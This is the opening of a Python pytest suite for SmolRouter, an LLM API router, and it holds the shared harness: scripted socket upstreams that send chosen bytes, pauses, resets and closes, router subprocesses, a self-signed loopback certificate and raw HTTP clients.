"""Every test of SmolRouter; `python -m pytest` runs them.

Nothing that speaks HTTP is mocked: upstreams are scripted on real sockets, clients are
`http.client`, raw sockets, the official SDKs and a browser. The tests stand in the order of
the program. What proves a section of smolrouter.py, on values or from end to end, stands
under the same number and name here; its own helpers stand at its top.

    Harness                what several sections use: upstreams, routers, clients, a log
     1  Errors             what holds for all of them
     2  Settings           good and bad values of each variable
     3  HTTP messages      heads, chunks and codings; requests that are not HTTP
     4  JSON               what is refused, and what stays as it was, to the byte
     5  Event streams      where events and streams end, at every split
     6  Text filters       thinking and fences, at every split
     7  Protocols          the user's words, token counts and conversations of each endpoint
     8  Dialects           OpenAI, Ollama and Anthropic clients before servers of each kind
     9  Routing            which model goes where, and what is wrong with a routing file
    10  Access             tokens, policies, pages from elsewhere, proxies
    11  HTTP on streams    contents and answers; clients that are slow or leave
    12  Upstreams          connections, answers that are not HTTP, cool-downs, lists of models
    13  Request log        rows, bodies, secrets; all that can happen to a database
    14  Relay              failover, fields, usage, events that leave as they come
    15  Dashboard and API  what the page asks; metrics and export
    16  Application        which path means what
    17  HTTP server        connections, many connections, the end of the process
    18  Command line       flags and commands
     A  The page           dashboard.html in a real browser
    The file itself        the shape of both files; README, the guide, the image, the measurements

A test that needs a package which is not there is skipped, or fails when the environment
variable SMOLROUTER_TEST_ALL is 1. SMOLROUTER_FUZZ=4000 makes hypothesis try so many new
examples of each property, `-k fuzz` these alone: some minutes.
"""

from __future__ import annotations

import ast
import asyncio
import base64
import collections
import concurrent.futures
import contextlib
import csv
import ctypes
import dataclasses
import datetime
import email
import functools
import gzip
import hashlib
import hmac
import http.client
import importlib.util
import itertools
import json
import marshal
import math
import operator
import os
import pathlib
import re
import selectors
import shutil
import signal
import socket
import sqlite3
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
import urllib.parse
import zlib
from collections.abc import Callable, Coroutine, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

import pytest

import smolrouter

# ======================================================================================
# Harness
# ======================================================================================
# What tests of several sections use; what one section alone needs stands at its top.
#
# Most tests from end to end are made of three lines: what a server says, what a client asks,
# and what comes out.
#
#     model = default_upstream().add_script(json_response({"fine": True}))
#     got = post_chat(default_router(), model)
#     assert (got.status, got.json) == (200, {"fine": True})
#
# A script has a model name of its own, so that tests can share one upstream and one router:
# starting a router takes a third of a second. `shared_router(settings)` gives one with other
# settings, shared too; `Router(settings)` one that the test may stop, signal and kill.

# --- paths, patience, packages --------------------------------------------------------

HERE = pathlib.Path(__file__).resolve().parent
SMOLROUTER = HERE / "smolrouter.py"
SOURCE = SMOLROUTER.read_text("utf-8")

# How long a test waits, in seconds, before it calls something lost.
PATIENCE = 10.0

# Names and values, in order: the fields of a request or a response.
Pairs = Sequence[tuple[str, str]]

# The rows of a table that `parametrize` takes.
Cases = tuple[tuple[Any, ...], ...]


def wait_until(condition: Callable[[], Any], seconds: float = PATIENCE) -> Any:
    """Wait until `condition()` is true and return it, or its last value if it never is."""
    deadline = time.monotonic() + seconds
    while True:
        value = condition()
        if value or time.monotonic() >= deadline:
            return value
        time.sleep(0.005)


# Routers, upstreams and folders that tests share are ended by callbacks that stand here.
AT_SESSION_END = contextlib.ExitStack()


@pytest.fixture(scope="session", autouse=True)
def end_shared_things() -> Iterator[None]:
    """End what tests share before the session ends: nobody waits for a worker after that."""
    with AT_SESSION_END:
        yield


def import_or_skip(module: str) -> Any:
    """Import an optional package; without it, skip the test, or fail it if all must run."""
    try:
        return importlib.import_module(module)
    except ImportError:
        if os.environ.get("SMOLROUTER_TEST_ALL") == "1":
            pytest.fail(f"SMOLROUTER_TEST_ALL=1, but {module} is not installed")
        pytest.skip(f"{module} is not installed")


def map_in_threads(task: Callable[..., Any], *inputs: Iterable[Any], workers: int = 8) -> list:
    """Return the results of a task for every input, as `map` does, several at a time."""
    with concurrent.futures.ThreadPoolExecutor(workers) as pool:
        return list(pool.map(task, *inputs))


def encode_json(document: Any) -> bytes:
    """Encode as compact JSON, as the OpenAI SDK does."""
    return json.dumps(document, separators=(",", ":")).encode()


def encode_huge_numbers(document: Any) -> bytes:
    """Encode as JSON, each infinity as 1e999: a number that no double holds."""
    return encode_json(document).replace(b"Infinity", b"1e999")


def split_at(data: bytes, *positions: int) -> list[bytes]:
    """Split data at these positions: `(b"abcd", 1, 3)  ->  [b"a", b"bc", b"d"]`."""
    edges = [0, *sorted(positions), len(data)]
    return [data[a:b] for a, b in itertools.pairwise(edges)]


def every_split(data: Any) -> Iterator[list[Any]]:
    """Yield `data` whole, then split in two at every place, then byte by byte."""
    yield [data]
    for at in range(1, len(data)):
        yield [data[:at], data[at:]]
    yield [data[at : at + 1] for at in range(len(data))]


# --- scripted upstreams: what they say ------------------------------------------------
# What an upstream says is a list of steps: bytes are sent, a number is a pause in seconds, and
# a mark does something to the connection. Whether a framing is right is up to the script.


class Mark:
    """A step of a script that is neither bytes nor a pause."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __repr__(self) -> str:
        return self.name


# Reset the connection: the peer gets RST.
DROP = Mark("DROP")

# End the connection: the peer gets FIN.
CLOSE = Mark("CLOSE")

# Say nothing until the peer closes, for longer than any test waits.
HANG = Mark("HANG")

Step = bytes | float | Mark


def response_head(status: int = 200, fields: Pairs = (), reason: str = "Fine") -> bytes:
    """Encode a response's head with exactly these fields."""
    lines = [f"HTTP/1.1 {status} {reason}"]
    lines += [f"{name}: {value}" for name, value in fields]
    return "\r\n".join([*lines, "", ""]).encode("latin-1")


def whole_response(
    content: bytes, status: int = 200, fields: Pairs = (), kind: str = "text/plain"
) -> list[Step]:
    """Answer with a Content-Length, head and content in one send."""
    own = [("Content-Type", kind), ("Content-Length", str(len(content)))]
    return [response_head(status, [*own, *fields]) + content]


def json_response(document: Any, status: int = 200, fields: Pairs = ()) -> list[Step]:
    """Answer with JSON and a Content-Length, in one send."""
    return whole_response(encode_json(document), status, fields, "application/json")


FINE_RESPONSE: list[Step] = json_response({"fine": True})


def encode_chunks(*pieces: bytes, end: bytes = b"0\r\n\r\n") -> list[bytes]:
    """Encode each piece as a chunk, each chunk for a send of its own, then the last chunk."""
    chunks = [b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces if piece]
    return [*chunks, end] if end else chunks


def encode_event(data: Any) -> bytes:
    """Encode a server-sent event.

    A document becomes JSON: `{"n": 1}  ->  b'data: {"n":1}\\n\\n'`. A string is the data as it
    is, as `"[DONE]"` is. Bytes are the whole event already.
    """
    if isinstance(data, bytes):
        return data
    text = data.encode() if isinstance(data, str) else encode_json(data)
    return b"data: " + text + b"\n\n"


def stream_response(
    pieces: Iterable[Step],
    fields: Pairs = (),
    kind: str = "text/event-stream",
    *,
    whole: bool = True,
    framed: bool = True,
) -> list[Step]:
    """Answer with a stream: each piece is a chunk, pauses and marks stay where they are.

    With `framed=False` nothing is chunked, and only the close ends the stream. With
    `whole=False` the end is missing, so that more steps can follow.
    """
    framing = ("Transfer-Encoding", "chunked") if framed else ("Connection", "close")
    steps: list[Step] = [response_head(200, [("Content-Type", kind), framing, *fields])]
    for piece in pieces:
        if framed and isinstance(piece, bytes):
            steps += encode_chunks(piece, end=b"")
        else:
            steps.append(piece)
    if whole:
        steps.append(b"0\r\n\r\n" if framed else CLOSE)
    return steps


def sse_response(
    events: Iterable[Any],
    split: int | Sequence[int] | None = None,
    chunked: bool = True,
    fields: Pairs = (),
    pause: float = 0.0,
) -> list[Step]:
    """Answer with a stream of events, each in a chunk and a send of its own.

    With `split` the chunks end at these positions of the encoded stream instead. `pause` is
    the time between two sends.
    """
    pieces: list[Step] = [encode_event(one) for one in events]
    if split is not None:
        positions = [split] if isinstance(split, int) else split
        pieces = [*split_at(b"".join(pieces), *positions)]  # type: ignore[arg-type]
    if pause:
        pieces = [step for piece in pieces for step in (piece, pause)]
    return stream_response(pieces, fields, framed=chunked)


def raw_response(lines: bytes, content: bytes = b"{}") -> list[Step]:
    """Answer with exactly these field lines, then end the connection."""
    return [b"HTTP/1.1 200 OK\r\n" + lines + b"\r\n\r\n" + content, CLOSE]


def broken_stream(*tail: Step) -> list[Step]:
    """Begin a stream well, with an event that says Hello, and go on with these steps."""
    first = encode_event(completion_events({}, "Hello")[1])
    return [*stream_response([first], whole=False), 0.1, *tail]


CHUNKED_FIELD = b"Transfer-Encoding: chunked"
JSON_FIELD = b"Content-Type: application/json"


# --- scripted upstreams: the events of a stream ---------------------------------------
# As documents, which `encode_event` and `sse_response` encode, and, with names that begin with
# RAW, as the bytes of an encoded event.

TWO_WORDS = [{"choices": [{"index": 0, "delta": {"content": w}}]} for w in ("one ", "two")]
FINISH = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}


def text_delta(text: str) -> dict[str, Any]:
    """Make an event that carries a piece of text."""
    return {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}


def finish_delta(reason: str = "stop") -> dict[str, Any]:
    """Make the event that ends an answer."""
    return {"choices": [{"index": 0, "delta": {}, "finish_reason": reason}]}


def text_deltas(*texts: str, key: str = "content", index: int = 0) -> list[dict[str, Any]]:
    """Make an event for each of these texts, under any key and of any choice."""
    return [{"id": "c", "choices": [{"index": index, "delta": {key: t}}]} for t in texts]


def chat_stream(*texts: str, escape: bool = False) -> list[bytes]:
    """Encode a whole chat stream: role, these texts, finish, [DONE].

    With `escape` the angle brackets are written as some servers write them: \\u003c.
    """
    role = {"id": "c", "choices": [{"index": 0, "delta": {"role": "assistant"}}]}
    finish = {"index": 0, "delta": {}, "finish_reason": "stop"}
    events = [role, *text_deltas(*texts), {"id": "c", "choices": [finish]}, "[DONE]"]
    encoded = [encode_event(e) for e in events]
    if escape:
        encoded = [e.replace(b"<", rb"\u003c").replace(b">", rb"\u003e") for e in encoded]
    return encoded


RAW_TOP = b'data: {"id":"x","choices":[{"index":0,"delta":'
RAW_WORD = RAW_TOP + b'{"content":"hi"},"finish_reason":null}]}\n\n'
RAW_STOP = RAW_TOP + b'{},"finish_reason":"stop"}]}\n\n'
RAW_DONE = b"data: [DONE]\n\n"
RAW_USAGE = b'{"prompt_tokens":3,"completion_tokens":1,"total_tokens":4}'
RAW_USAGE_EVENT = b'data: {"id":"x","choices":[],"usage":' + RAW_USAGE + b"}\n\n"
RAW_PING = b": ping\n\n"


# --- scripted upstreams: the servers --------------------------------------------------


def parse_field_lines(lines: Iterable[str]) -> list[tuple[str, str]]:
    """Split field lines into names and values: `"A: b"  ->  ("A", "b")`."""
    split = [line.partition(":") for line in lines]
    return [(name, value.strip()) for name, _, value in split]


def values_of(name: str, fields: Pairs) -> list[str]:
    """Return every value of a field, whatever the case of its name."""
    return [value for key, value in fields if key.lower() == name.lower()]


@dataclass
class Received:
    """One request as it arrived at an upstream."""

    method: str
    target: str
    fields: list[tuple[str, str]]
    content: bytes
    raw_head: bytes
    connection: int  # its number, from 0 on: an index of `Upstream.connections`
    arrived: float  # time.monotonic() when the content was complete
    framing: str = ""  # "", "length" or "chunked"

    def get(self, name: str) -> str | None:
        """Return the last value of a field."""
        return (self.get_all(name) or [None])[-1]

    def get_all(self, name: str) -> list[str]:
        """Return every value of a field."""
        return values_of(name, self.fields)

    @property
    def path(self) -> str:
        """The target without its query."""
        return self.target.partition("?")[0]

    @property
    def json(self) -> Any:
        """The content as a document; None where it is no JSON."""
        try:
            return json.loads(self.content)
        except ValueError:
            return None

    @property
    def model(self) -> str:
        """The model that the document names; "" where there is none."""
        document = self.json
        return str(document.get("model", "")) if isinstance(document, dict) else ""


# What an upstream answers to a request.
Script = Callable[[Received], Iterable[Step]]


@dataclass
class Connection:
    """One connection to an upstream; times are those of time.monotonic()."""

    number: int
    opened: float
    closed: float | None = None  # when its end was seen
    requests: int = 0


class Upstream:
    """A server on a real socket that says exactly what its scripts say.

    A request is answered by the script in `scripts` for its model, else by the one for its
    path, else by `script`, which is a well-behaved server unless the test gives another one.
    `requests` and `connections` keep all that arrived, for the test to look at; but what a router
    asks by itself, which may be at any time, is in `own_requests`.
    """

    def __init__(
        self,
        script: Script | None = None,
        *,
        models: Sequence[str] = ("tiny",),
        tls: ssl.SSLContext | None = None,
        host: str = "127.0.0.1",
    ) -> None:
        self.script: Script = script or well_behaved
        self.scripts: dict[str, Script] = {}
        self.models = list(models)
        self.requests: list[Received] = []
        self.own_requests: list[Received] = []
        self.connections: list[Connection] = []
        self._names = itertools.count()
        self._tls = tls
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self._listener = socket.create_server((host, 0), family=family, backlog=1024)
        self.port: int = self._listener.getsockname()[1]
        self.authority = f"[{host}]:{self.port}" if ":" in host else f"{host}:{self.port}"
        self.url = f"http{'s' if tls else ''}://{self.authority}"
        self._open = True
        threading.Thread(target=self._accept, daemon=True).start()

    def __enter__(self) -> Upstream:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def close(self) -> None:
        """Stop listening; scripts that are running go on to their end."""
        self._open = False
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def add_script(self, script: Script | Iterable[Step]) -> str:
        """Give a script, or steps that answer every request, a model name of its own.

        Requests for the model that is returned, and those for `/v1/{model}`, are answered by it.
        """
        if not callable(script):
            steps = list(script)
            script = lambda received: steps  # noqa: E731
        model = f"scripted-{next(self._names)}"
        self.scripts[model] = script
        self.scripts[f"/v1/{model}"] = script
        return model

    def requests_for(self, key: str) -> list[Received]:
        """Return the requests whose model is `key`, or whose target or content holds it."""

        def is_wanted(one: Received) -> bool:
            return one.model == key or key in one.target or key.encode() in one.content

        return [one for one in list(self.requests) if is_wanted(one)]

    def connection_of(self, key: str) -> Connection:
        """Return the connection on which the first request for `key` arrives."""
        wait_until(lambda: self.requests_for(key))
        return self.connections[self.requests_for(key)[0].connection]

    def _accept(self) -> None:
        """Serve each connection in a thread of its own."""
        while self._open:
            try:
                sock, _ = self._listener.accept()
            except OSError:
                return
            connection = Connection(len(self.connections), time.monotonic())
            self.connections.append(connection)
            threading.Thread(target=self._serve, args=(sock, connection), daemon=True).start()

    def _serve(self, sock: socket.socket, connection: Connection) -> None:
        """Answer the requests of a connection until a script or the peer ends it."""
        try:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if self._tls:
                sock = self._tls.wrap_socket(sock, server_side=True)
            reader = sock.makefile("rb")
            while received := read_request(sock, reader, connection.number):
                # What a router relays has a Via.
                is_own = received.method == "GET" and not received.get("Via")
                if is_own and received.target.endswith(("/v1/models", "/")):
                    self.own_requests.append(received)
                else:
                    connection.requests += 1
                    self.requests.append(received)
                if not self._play(sock, self._steps(received)):
                    break
        except (OSError, ValueError):
            # The peer has left, or has sent what is no request: the test will see that.
            pass
        finally:
            connection.closed = time.monotonic()
            sock.close()

    def _steps(self, received: Received) -> Iterable[Step]:
        """Choose the script of a request and return its steps."""
        for key in (received.model, received.path):
            if key in self.scripts:
                return self.scripts[key](received)
        if self.script is well_behaved:
            return well_behaved(received, self.models)
        return self.script(received)

    def _play(self, sock: socket.socket, steps: Iterable[Step]) -> bool:
        """Do what these steps say; return False when the connection is to be closed."""
        for step in steps:
            if isinstance(step, bytes):
                sock.sendall(step)
            elif step is HANG:
                wait_while_open(sock, 12 * PATIENCE)
                return False
            elif step is DROP:
                reset_on_close(sock)
                return False
            elif step is CLOSE:
                sock.shutdown(socket.SHUT_WR)
                wait_while_open(sock, 1.0)
                return False
            elif not wait_while_open(sock, step):
                return False
        return True


def reset_on_close(sock: socket.socket) -> None:
    """Let the close of a socket be a reset: the peer gets RST instead of FIN."""
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def wait_while_open(sock: socket.socket, seconds: float) -> bool:
    """Pause for so many seconds; return False at once when the peer closes."""
    deadline = time.monotonic() + seconds
    # A request that comes meanwhile is left in the socket for later. TLS cannot peek.
    flags = 0 if isinstance(sock, ssl.SSLSocket) else socket.MSG_PEEK
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ)
        while (left := deadline - time.monotonic()) > 0:
            if not selector.select(left):
                continue
            if not sock.recv(1, flags):
                return False
            # Something is there, and stays there: do not spin.
            time.sleep(min(left, 0.01))
    return True


def read_request(sock: socket.socket, reader: Any, number: int) -> Received | None:
    """Read one request from the connection with this number; None at its end."""
    raw_head = b""
    while (line := reader.readline()) not in (b"\r\n", b""):
        raw_head += line
    if not line:
        return None
    request_line, *lines = raw_head.decode("latin-1").split("\r\n")[:-1]
    method, target, _ = request_line.split(" ")
    fields = parse_field_lines(lines)
    values = {name.lower(): value for name, value in fields}
    if values.get("expect", "").lower() == "100-continue":
        sock.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")
    framing = ""
    content = b""
    if "transfer-encoding" in values:
        framing = "chunked"
        content = b"".join(read_chunks(reader))
    elif "content-length" in values:
        framing = "length"
        size = int(values["content-length"])
        content = reader.read(size)
        if len(content) < size:
            return None
    now = time.monotonic()
    return Received(method, target, fields, content, raw_head, number, now, framing)


def read_chunks(reader: Any) -> Iterator[bytes]:
    """Yield the data of each chunk, then read past the trailers."""
    while True:
        line = reader.readline()
        if not line.endswith(b"\r\n"):
            raise ConnectionError("the request ended inside its chunks")
        size = int(line.split(b";")[0], 16)
        if not size:
            break
        data = reader.read(size + 2)
        if len(data) < size + 2 or not data.endswith(b"\r\n"):
            raise ConnectionError("the request ended inside a chunk")
        yield data[:-2]
    while reader.readline() not in (b"\r\n", b""):
        pass


def last_text(document: Mapping[str, Any]) -> str:
    """Return the text of the last message, or the prompt."""
    messages = document.get("messages") or [{"content": document.get("prompt", "")}]
    content = messages[-1].get("content") or ""
    if isinstance(content, str):
        return content
    return "".join(part.get("text", "") for part in content)


def usage_of(text: str) -> dict[str, int]:
    """Make the `usage` of an answer: seven tokens of prompt, a token for each word."""
    words = len(text.split())
    return {"prompt_tokens": 7, "completion_tokens": words, "total_tokens": 7 + words}


def well_behaved(received: Received, models: Sequence[str] = ("tiny",)) -> Iterable[Step]:
    """Answer as a good OpenAI server does: `You said: ...`, streamed when asked.

    Paths of /v1 that it does not know are answered with what arrived, as JSON.
    """
    document = received.json if isinstance(received.json, dict) else {}
    path = received.path
    if path == "/v1/models":
        return json_response({"object": "list", "data": [model_entry(m) for m in models]})
    if path == "/v1/embeddings":
        return json_response(embeddings(document))
    if path in ("/v1/chat/completions", "/v1/completions"):
        text = f"You said: {last_text(document)}"
        kind = "chat" if "chat" in path else "text"
        if document.get("stream"):
            return sse_response(completion_events(document, text, kind))
        return json_response(completion(document, text, kind))
    if path.startswith("/v1/"):
        arrived = {
            "method": received.method,
            "target": received.target,
            "content": received.content.decode("latin-1"),
        }
        steps = json_response(arrived)
        return head_only(steps) if received.method == "HEAD" else steps
    return json_response({"error": {"message": f"no path {path}"}}, 404)


def head_only(steps: list[Step]) -> list[Step]:
    """Answer HEAD: the head of this answer without its content."""
    whole = b"".join(s for s in steps if isinstance(s, bytes))
    return [whole[: whole.index(b"\r\n\r\n") + 4]]


def model_entry(name: str) -> dict[str, Any]:
    """Make the entry of a model in the list of /v1/models."""
    return {"id": name, "object": "model", "created": 1700000000, "owned_by": "us"}


def embeddings(document: Mapping[str, Any]) -> dict[str, Any]:
    """Answer /v1/embeddings with a vector for each input: its length and its index."""
    inputs = document.get("input", "")
    if not isinstance(inputs, list):
        inputs = [inputs]
    data = [
        {"object": "embedding", "index": i, "embedding": [float(len(str(text))), float(i)]}
        for i, text in enumerate(inputs)
    ]
    usage = {"prompt_tokens": len(inputs), "total_tokens": len(inputs)}
    return {"object": "list", "data": data, "model": document.get("model"), "usage": usage}


def completion(document: Mapping[str, Any], text: str, kind: str = "chat") -> dict:
    """Make a whole answer, of a chat (`chat`) or of the older completions (`text`)."""
    if kind == "chat":
        said: dict[str, Any] = {"message": {"role": "assistant", "content": text}}
    else:
        said = {"text": text, "logprobs": None}
    return {
        "id": "cmpl-1",
        "created": 1700000000,
        "model": document.get("model"),
        "object": "chat.completion" if kind == "chat" else "text_completion",
        "choices": [{"index": 0, **said, "finish_reason": "stop"}],
        "usage": usage_of(text),
    }


def completion_events(document: Mapping[str, Any], text: str, kind: str = "chat") -> list[Any]:
    """Make the events of a streamed answer: a word each, and usage only when asked."""

    def make_event(delta: dict, finish: str | None = None) -> dict[str, Any]:
        said = {"delta": delta} if kind == "chat" else {"text": delta.get("content", "")}
        return {
            "id": "cmpl-1",
            "created": 1700000000,
            "model": document.get("model"),
            "object": "chat.completion.chunk" if kind == "chat" else "text_completion",
            "choices": [{"index": 0, **said, "finish_reason": finish}],
        }

    events: list[Any] = []
    if kind == "chat":
        events.append(make_event({"role": "assistant", "content": ""}))
    events += [make_event({"content": word}) for word in re.findall(r"\S+\s*", text)]
    events.append(make_event({}, "stop"))
    if (document.get("stream_options") or {}).get("include_usage"):
        events.append({**make_event({}), "choices": [], "usage": usage_of(text)})
    return [*events, "[DONE]"]


# Sockets that keep their ports taken, so that nobody else gets them.
TAKEN_PORTS: list[socket.socket] = []


def refusing_url() -> str:
    """Return the URL of a port where nobody listens: connections are refused."""
    TAKEN_PORTS.append(socket.socket())
    TAKEN_PORTS[-1].bind(("127.0.0.1", 0))
    return f"http://127.0.0.1:{TAKEN_PORTS[-1].getsockname()[1]}"


def make_certificate(folder: pathlib.Path, password: str = "") -> tuple[str, str] | None:
    """Make a certificate for loopback and its key: their files; None without openssl."""
    if not shutil.which("openssl"):
        return None
    key = str(folder / "key.pem")
    cert = str(folder / "cert.pem")
    command = (
        "openssl req -x509 -newkey rsa:2048 -days 2 -subj /CN=localhost "
        "-addext subjectAltName=DNS:localhost,IP:127.0.0.1"
    )
    secrecy = ["-passout", f"pass:{password}"] if password else ["-nodes"]
    made = subprocess.run(
        [*command.split(), *secrecy, "-keyout", key, "-out", cert], capture_output=True, timeout=30
    )
    return None if made.returncode else (cert, key)


@functools.lru_cache
def self_signed_certificate() -> tuple[str, ssl.SSLContext] | None:
    """Make a certificate for loopback: its file, and a server's context; None without openssl."""
    folder = pathlib.Path(tempfile.mkdtemp(prefix="smol-tls-"))
    AT_SESSION_END.callback(shutil.rmtree, folder, ignore_errors=True)
    made = make_certificate(folder)
    if made is None:
        return None
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*made)
    return made[0], context


# --- the router in a process of its own -----------------------------------------------


def bare_environment(settings: Mapping[str, Any]) -> dict[str, str]:
    """Return the environment of a router: the little that any process needs, and these settings."""
    kept = {n: os.environ[n] for n in ("PATH", "HOME", "LANG") if n in os.environ}
    return kept | {name: str(value) for name, value in settings.items()}


# What a process runs whose router has other limits than those of the program.
START_WITH_LIMITS = """
import json, sys
sys.path.insert(0, {folder!r})
import smolrouter
sys.exit(smolrouter.main(sys.argv[1:], smolrouter.Limits(**json.loads({limits!r}))))
"""


class Router:
    """A router in a process of its own, on a port of its own, in an empty folder.

    `routes` is a routing file, as text or as a document; `limits` are fields of the program's
    Limits with the values that the test needs. Use it as a context manager, or call `stop()`:
    both end the process and remove the folder.
    """

    def __init__(
        self,
        settings: Mapping[str, Any] | None = None,
        routes: Any = None,
        args: Sequence[str] = (),
        python: Sequence[str] = (sys.executable,),
        program: pathlib.Path | None = None,
        limits: Mapping[str, float] | None = None,
    ) -> None:
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="smol-"))
        command = [*python, str(program or SMOLROUTER), *args]
        if limits:
            code = START_WITH_LIMITS.format(
                folder=str(SMOLROUTER.parent), limits=json.dumps(limits)
            )
            command = [*python, "-c", code, *args]
        named = {"LISTEN_PORT": 0, **(settings or {})}
        if routes is not None:
            self.routes = self.folder / "table.conf"
            text = routes if isinstance(routes, str) else json.dumps(routes)
            self.routes.write_text(text)
            named["ROUTES_CONFIG"] = self.routes
        self.process = subprocess.Popen(
            command,
            cwd=self.folder,
            env=bare_environment(named),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        self._stderr_lines: list[bytes] = []
        self._reader = threading.Thread(target=self._listen, daemon=True)
        self._reader.start()
        pattern = re.compile(r"listens on (https?://\S+:(\d+))")
        # Its first line says where it listens; if there is none, it has ended.
        line = wait_until(lambda: pattern.search(self.stderr) or self.process.poll())
        if not isinstance(line, re.Match):
            self.kill()
            raise RuntimeError(f"the router did not start:\n{self.stderr}")
        self.url = line[1]
        self.port = int(line[2])

    def __enter__(self) -> Router:
        return self

    def __exit__(self, *_: object) -> None:
        self.stop()

    def _listen(self) -> None:
        """Gather the lines of stderr until it is closed."""
        assert self.process.stderr
        with self.process.stderr as lines:
            for line in lines:
                self._stderr_lines.append(line)

    @property
    def stderr(self) -> str:
        """What it has written to stderr so far."""
        return b"".join(list(self._stderr_lines)).decode("utf-8", "replace")

    def signal(self, number: int) -> None:
        """Send a signal to the process, if it still runs."""
        if self.process.poll() is None:
            self.process.send_signal(number)

    def wait(self, seconds: float = 20.0) -> int:
        """Wait for the end of the process and return its exit status."""
        try:
            return self.process.wait(seconds)
        finally:
            self.kill()

    def stop(self) -> int:
        """End the process with SIGTERM and return its exit status."""
        self.signal(signal.SIGTERM)
        return self.wait()

    def kill(self) -> None:
        """Make sure that the process is gone, and its folder with it."""
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        self._reader.join(5)
        shutil.rmtree(self.folder, ignore_errors=True)


def run_program(*args: str, settings: Mapping[str, Any] | None = None, **more: Any) -> Any:
    """Run a command of the program to its end; return its exit status, stdout and stderr."""
    folder = more.pop("cwd", None) or tempfile.mkdtemp(prefix="smol-")
    try:
        return subprocess.run(
            [sys.executable, str(SMOLROUTER), *args],
            cwd=folder,
            text=True,
            timeout=30,
            env=bare_environment(settings or {}),
            capture_output=True,
            **more,
        )
    finally:
        if str(folder).startswith(tempfile.gettempdir() + "/smol-"):
            shutil.rmtree(folder, ignore_errors=True)


def run_coroutine(coroutine: Coroutine[Any, Any, Any]) -> Any:
    """Run a coroutine in a thread: the tests of a browser leave a loop running in this one."""
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coroutine).result()


# Shared routers are started one at a time, so that threads cannot start the same one twice.
START_LOCK = threading.Lock()


@functools.cache
def _cached_router(settings: str, routes: str, args: tuple[str, ...], limits: str) -> Router:
    """Start a router for these arguments, as JSON because a cache needs keys that do not change."""
    router = Router(json.loads(settings), json.loads(routes), args, limits=json.loads(limits))
    AT_SESSION_END.callback(router.kill)
    return router


def shared_router(
    settings: Mapping[str, Any] | None = None,
    routes: Any = None,
    args: Sequence[str] = (),
    limits: Mapping[str, float] | None = None,
) -> Router:
    """Return the router with these settings: started once, shared by tests, never to be stopped."""
    with START_LOCK:
        return _cached_router(
            json.dumps(settings or {}), json.dumps(routes), tuple(args), json.dumps(limits)
        )


@functools.lru_cache
def default_upstream() -> Upstream:
    """Return the upstream behind `default_router()`; a test gives it a script of its own."""
    return Upstream()


def default_router() -> Router:
    """Return the router that most tests use; its DEFAULT_UPSTREAM is `default_upstream()`."""
    return shared_router({"DEFAULT_UPSTREAM": default_upstream().url})


@contextlib.contextmanager
def router_and_upstream(script: Script | None = None, **settings: Any) -> Iterator[tuple]:
    """Start a router and an upstream that no other test uses."""
    with (
        Upstream(script) as upstream,
        Router({"DEFAULT_UPSTREAM": upstream.url, **settings}) as router,
    ):
        yield router, upstream


def router_of_two(first: str, second: str, **settings: Any) -> Router:
    """Start a router whose alias `pair` has an instance at each of these two URLs."""
    aliases = {"pair": {"instances": ["one/m", "two/m"]}}
    return Router(settings, {"servers": {"one": first, "two": second}, "aliases": aliases})


def memory_mib(router: Router, name: str = "VmRSS") -> int:
    """Return the MiB that a router has now (VmRSS), or has had at most (VmHWM)."""
    status = pathlib.Path(f"/proc/{router.process.pid}/status")
    if not status.exists():
        pytest.skip("there is no /proc here")
    return int(re.search(rf"{name}:\s+(\d+)", status.read_text())[1]) // 1024


# --- raw clients ----------------------------------------------------------------------
# `request` and `post_chat` send one request through `http.client`. `send_raw` and `exchange`
# send the very bytes that they are given, such as `encode_get("/v1/x")`, and return the bytes
# that came back, for `parse_response` or `split_responses`.


@dataclass
class Response:
    """One response as a client saw it."""

    status: int
    fields: list[tuple[str, str]]
    content: bytes
    whole: bool = True  # False when it ended before its framing said so
    rest: bytes = b""  # what followed it on the connection
    pieces: list[tuple[float, bytes]] = field(default_factory=list)  # with times of arrival

    def get(self, name: str) -> str | None:
        """Return the last value of a field."""
        return (self.get_all(name) or [None])[-1]

    def get_all(self, name: str) -> list[str]:
        """Return every value of a field."""
        return values_of(name, self.fields)

    @property
    def json(self) -> Any:
        """The content as a document."""
        return json.loads(self.content)

    @property
    def events(self) -> list[bytes]:
        """The data of each server-sent event, or each line of NDJSON."""
        if "ndjson" in (self.get("Content-Type") or ""):
            return [line for line in self.content.split(b"\n") if line]
        blocks = self.content.split(b"\n\n")
        return [block[6:] for block in blocks if block.startswith(b"data: ")]

    @property
    def documents(self) -> list[Any]:
        """The events as documents, without `[DONE]`."""
        return [json.loads(data) for data in self.events if data != b"[DONE]"]

    @property
    def text(self) -> str:
        """What the model said, in whatever dialect, streamed or not."""
        kind = self.get("Content-Type") or ""
        streamed = "event-stream" in kind or "ndjson" in kind
        documents = self.documents if streamed else [self.json]
        return "".join(map(visible_text, documents))


def visible_text(document: Mapping[str, Any]) -> str:
    """Return the visible text of one document, whole or an event, OpenAI's or Ollama's."""
    choices = document.get("choices") or [document]
    parts = [c.get("delta") or c.get("message") or c for c in choices]
    return "".join(p.get("content") or p.get("text") or p.get("response") or "" for p in parts)


def connect(port: int, host: str = "127.0.0.1") -> socket.socket:
    """Connect to a port; what is sent leaves at once, and nothing is waited for any longer."""
